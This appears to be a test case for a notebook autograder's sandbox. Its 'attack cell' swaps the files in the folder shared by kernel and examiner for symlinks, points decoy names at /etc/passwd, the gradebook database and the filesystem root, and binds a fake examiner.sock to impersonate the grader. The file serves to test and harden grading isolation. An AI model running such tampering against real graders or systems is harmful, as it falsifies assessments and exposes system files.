# Puts links and sockets of its own in the place of those in the one folder that kernel and examiner share.
# earns: 4
# honest: run-round-robin
# shows: TRIED IN /

# %% attack cell after run-round-robin-edges
import os
import socket

import ipykernel

try:
    run = os.path.dirname(ipykernel.get_connection_file())
except Exception:  # a kernel of the examiner's has no such file
    run = os.path.dirname(get_ipython().kernel._line.socket.getpeername())
for name in os.listdir(run):
    try:
        os.rename(f"{run}/{name}", f"{run}/{name}.old")
        os.symlink("@ROOT@/source/u01_iterators/assignment.ipynb", f"{run}/{name}")
    except OSError:
        pass
for name, target in (("exam.sock", "/etc/passwd"), ("verdict.json", "@ROOT@/gradebook.db"), ("deep", "/")):
    try:
        os.symlink(target, f"{run}/{name}")
    except OSError:
        pass
mine = socket.socket(socket.AF_UNIX)
try:
    mine.bind(f"{run}/examiner.sock")
    mine.listen()
except OSError:
    pass
print("TRIED IN", run)

# %% twin cell first
import os
import socket
import tempfile

folder = tempfile.mkdtemp()
os.symlink(folder, "link-to-my-folder")
with socket.socket(socket.AF_UNIX) as mine:
    mine.bind(f"{folder}/mine.sock")
    mine.listen()
print(os.path.islink("link-to-my-folder"))
